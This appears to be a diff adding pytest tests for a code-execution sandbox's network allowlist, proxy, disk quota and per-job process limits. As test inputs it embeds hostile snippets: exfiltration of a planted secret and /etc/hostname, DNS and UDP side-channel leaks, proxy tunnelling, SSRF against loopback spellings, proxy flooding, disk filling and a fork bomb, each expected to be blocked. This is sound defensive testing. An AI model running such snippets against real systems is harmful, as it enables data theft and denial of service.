@@ -236,3 +236,143 @@ def test_reward_hacks_never_pass(sb, host, name, code, verdicts):
 @pytest.mark.parametrize("name,code,verdicts", BROKEN, ids=[c[0] for c in BROKEN])
 def test_broken_input(sb, host, name, code, verdicts):
     check(sb, host, code, verdicts)
+
+
+# --- tiers, quotas and the audit log (nbs/03a_isolation) -------------------------------------------------------------
+import http.server, shutil as _shutil
+from rlkit.isolation import Tier
+
+FETCH = "import urllib.request\ndef fetch(url):\n    return urllib.request.urlopen(url, timeout=5).read().decode()\n"
+
+
+class _Server:
+    "A local HTTP server that records every request it gets (there is no internet here: local servers stand for hosts)"
+    def __init__(self, body=b"ok"):
+        seen = self.seen = []
+        class H(http.server.BaseHTTPRequestHandler):
+            def do_GET(self): seen.append(("GET", self.path)); self._ok()
+            def do_POST(self): seen.append(("POST", self.path, self.rfile.read(int(self.headers.get("Content-Length", 0))))); self._ok()
+            def _ok(self): self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
+            def log_message(self, *a): pass
+        self.srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
+        self.port = self.srv.server_address[1]
+        threading.Thread(target=self.srv.serve_forever, daemon=True).start()
+    def close(self): self.srv.shutdown(); self.srv.server_close()
+
+
+@pytest.fixture()
+def servers():
+    allowed, denied, trusted = _Server(b"allowed"), _Server(b"denied"), _Server(b"the trainer's own service")
+    yield allowed, denied, trusted
+    for s in (allowed, denied, trusted): s.close()
+
+
+@pytest.fixture(scope="module")
+def net_sb():
+    s = Sandbox(None, Limits(timeout_s=10, output_bytes=20_000))
+    yield s
+    s.close()
+    assert not _wait_no_leftovers()
+
+
+def _net(sb, host, code, tests, tier, verdicts, entry="fetch"):
+    tmp_before = _tmp_listing()
+    r = sb.run(code, tests, entry, tier=tier)
+    assert r.verdict in verdicts, f"verdict {r.verdict!r} ({r.detail[:300]}), expected one of {verdicts}"
+    assert SECRET not in r.stdout + r.stderr + r.detail and host["canary"].read_text() == CANARY
+    assert not _wait_no_leftovers(exclude=sb.pool_pids()) and _tmp_listing() == tmp_before and len(new_run_dirs()) <= len(sb._idle)
+    return r
+
+
+def test_network_tier_reaches_an_allowed_host(net_sb, host, servers):
+    allowed, denied, _ = servers
+    r = _net(net_sb, host, FETCH, f"assert fetch('http://127.0.0.1:{allowed.port}/hi') == 'allowed'", Tier("network", (f"127.0.0.1:{allowed.port}",)), {"passed"})
+    assert allowed.seen == [("GET", "/hi")] and r.audit["network"][0]["allowed"] and not r.audit["flags"]
+
+
+def test_exfiltration_to_a_host_not_allowed(net_sb, host, servers):
+    allowed, denied, _ = servers
+    code = ("import os, urllib.request\ndef fetch(url):\n    data = os.environ.get('RLKIT_PLANTED_SECRET', 'none').encode() + open('/etc/hostname', 'rb').read()\n"
+            "    try: urllib.request.urlopen(urllib.request.Request(url, data=data), timeout=5)\n    except Exception as e: pass\n    return 'allowed'\n")
+    r = _net(net_sb, host, code, f"assert fetch('http://127.0.0.1:{denied.port}/steal') == 'allowed'", Tier("network", (f"127.0.0.1:{allowed.port}",)), {"violation"})
+    assert denied.seen == [] and [e["allowed"] for e in r.audit["network"]] == [False]
+
+
+def test_dns_lookups_are_not_a_side_channel(net_sb, host, servers, monkeypatch):
+    "Names are never resolved inside (no resolver is reachable), and the proxy resolves only allowed names: a lookup carries nothing out"
+    allowed, _, _ = servers
+    looked_up = []
+    real = socket.getaddrinfo
+    monkeypatch.setattr(socket, "getaddrinfo", lambda h, *a, **k: looked_up.append(h) or real(h, *a, **k))  # the trusted side's resolver
+    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); udp.bind(("127.0.0.1", 0)); udp.settimeout(0.2)
+    code = (f"import socket\ndef fetch(url):\n    for name in ('{SECRET[:20]}.exfil.test', 'pypi.org'):\n"
+            f"        try: socket.getaddrinfo(name, 53)\n        except OSError: pass\n"
+            f"    try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'{SECRET[:20]}', ('127.0.0.1', {udp.getsockname()[1]}))\n    except OSError: pass\n"
+            f"    s = socket.create_connection(('127.0.0.1', 3128)); s.sendall(b'CONNECT {SECRET[:20]}.exfil.test:443 HTTP/1.1\\r\\n\\r\\n')\n"
+            f"    return s.recv(100).decode()\n")
+    for tier in (Tier("network", (f"127.0.0.1:{allowed.port}",)), Tier()):
+        r = _net(net_sb, host, code, "assert '200' in fetch('x')", tier, {"violation", "error"})
+        assert r.verdict != "passed"
+    try: got = udp.recvfrom(100)
+    except (socket.timeout, BlockingIOError): got = None
+    udp.close()
+    assert got is None and not any("exfil" in str(h) for h in looked_up), looked_up
+
+
+def test_connect_to_an_allowed_host_on_another_port(net_sb, host, servers):
+    allowed, denied, _ = servers
+    code = (f"import socket\ndef fetch(url):\n    s = socket.create_connection(('127.0.0.1', 3128))\n"
+            f"    s.sendall(b'CONNECT 127.0.0.1:{denied.port} HTTP/1.1\\r\\n\\r\\nGET / HTTP/1.0\\r\\n\\r\\n')\n    return s.recv(1000).decode()\n")
+    r = _net(net_sb, host, code, "assert 'denied' in fetch('x')", Tier("network", (f"127.0.0.1:{allowed.port}",)), {"violation"})
+    assert denied.seen == [] and r.audit["network"][0]["port"] == denied.port and not r.audit["network"][0]["allowed"]
+
+
+def test_requests_to_the_trusted_sides_own_ports(net_sb, host, servers):
+    "SSRF: the trainer's own services on the host's loopback, by every spelling of it, directly and through the proxy"
+    allowed, _, trusted = servers
+    p = trusted.port
+    urls = [f"http://{h}:{p}/admin" for h in ("127.0.0.1", "localhost", "127.1", "0.0.0.0", "2130706433", "0x7f000001", "[::1]", "LOCALHOST.")]
+    code = (FETCH.replace("def fetch(url):\n    return", "def one(url):\n    return") +
+            f"import socket\ndef fetch(urls):\n    got = []\n    for u in urls:\n        try: got.append(one(u))\n        except Exception: pass\n"
+            f"    try: socket.create_connection(('127.0.0.1', {p}), timeout=2).sendall(b'GET /direct HTTP/1.0\\r\\n\\r\\n')\n    except OSError: pass\n    return got\n")
+    r = _net(net_sb, host, code, f"assert fetch({urls!r}) == []", Tier("network", (f"127.0.0.1:{allowed.port}",)), {"violation"})
+    assert trusted.seen == [] and len(r.audit["network"]) == len(urls) and not any(e["allowed"] for e in r.audit["network"])
+
+
+def test_abuse_of_the_proxy_socket(net_sb, host, servers):
+    "Garbage, a huge header, a flood of connections and a stalled one on the proxy's socket: each refused, and the proxy still serves"
+    allowed, denied, _ = servers
+    code = (FETCH + "import os, socket\ndef abuse():\n    path = os.path.expanduser('~/.rlkit-proxy.sock')\n    socks = []\n"
+            "    for payload in (b'\\x00\\xff garbage\\r\\n\\r\\n', b'GET http://x/ HTTP/1.1\\r\\n' + b'A' * 20000, b'CONNECT ', b'GET / HTTP/1.1\\r\\n\\r\\n'):\n"
+            "        s = socket.socket(socket.AF_UNIX); s.connect(path); s.sendall(payload); socks.append(s)\n"
+            "    for _ in range(60):\n        try: s = socket.socket(socket.AF_UNIX); s.connect(path); socks.append(s)\n        except OSError: break\n"
+            "    socks[-1].settimeout(3)\n    try: socks[-1].recv(1)\n    except OSError: pass\n"  # wait until the proxy has turned the last one away
+            "    return len(socks)\n")
+    tier, threads = Tier("network", (f"127.0.0.1:{allowed.port}",)), threading.active_count()
+    t0 = time.time()
+    r = _net(net_sb, host, code, "assert abuse() > 0", tier, {"violation"})
+    assert time.time() - t0 < 8, "stalled connections held the trusted side"
+    assert denied.seen == [] and any(not e["allowed"] for e in r.audit["network"]) and len(r.audit["network"]) <= 200
+    assert any("connections" in e["why"] for e in r.audit["network"])  # the flood was cut at the per-job cap
+    assert threading.active_count() <= threads + 1, "the proxy's threads outlived the job"
+    _net(net_sb, host, FETCH, f"assert fetch('http://127.0.0.1:{allowed.port}/after') == 'allowed'", tier, {"passed"})  # the next job is served
+
+
+def test_filling_the_disk_quota(sb, host):
+    "Files of the largest allowed size, one after another, until the job's quota is full: the host's disk is untouched"
+    code = "import os\ni = 0\nwhile True:\n    with open(f'f{i}', 'wb') as f: f.write(bytes(15 * 2**20))\n    i += 1" + GOOD
+    before = _shutil.disk_usage("/tmp").used
+    r = check(sb, host, code, {"error"})
+    assert "No space left" in r.detail + r.stderr or "No space left" in str(r.audit), r.detail[:300]
+    if sb.quota: assert sum(f["bytes"] for f in r.audit["files"]) <= sb.limits.disk_mb << 20
+    assert _shutil.disk_usage("/tmp").used - before < 16 << 20
+
+
+def test_exhausting_another_jobs_process_budget(sb, host):
+    "A fork bomb in one job while the job beside it needs 20 processes: budgets are per job, so the other job still passes"
+    if not sb.cgroups: pytest.skip("per-job process budgets need root (a pids cgroup per job)")
+    bomb = "import os, time\ndef add(a, b):\n    try:\n        while True:\n            if os.fork() == 0: time.sleep(20); os._exit(0)\n    except OSError: time.sleep(3)\n    return 0\n"
+    needs = "import subprocess\ndef add(a, b):\n    assert sum(subprocess.run(['true']).returncode == 0 for _ in range(20)) == 20\n    return a + b\n"
+    res = Sandbox(None, Limits(timeout_s=8), warm=sb.warm, policy=None).run_batch([(bomb, ADD_TESTS, "add"), (needs, ADD_TESTS, "add")], workers=2)
+    assert res[0].verdict != "passed" and res[1].verdict == "passed", [(x.verdict, x.detail[:200]) for x in res]
+    assert not _wait_no_leftovers(exclude=sb.pool_pids())
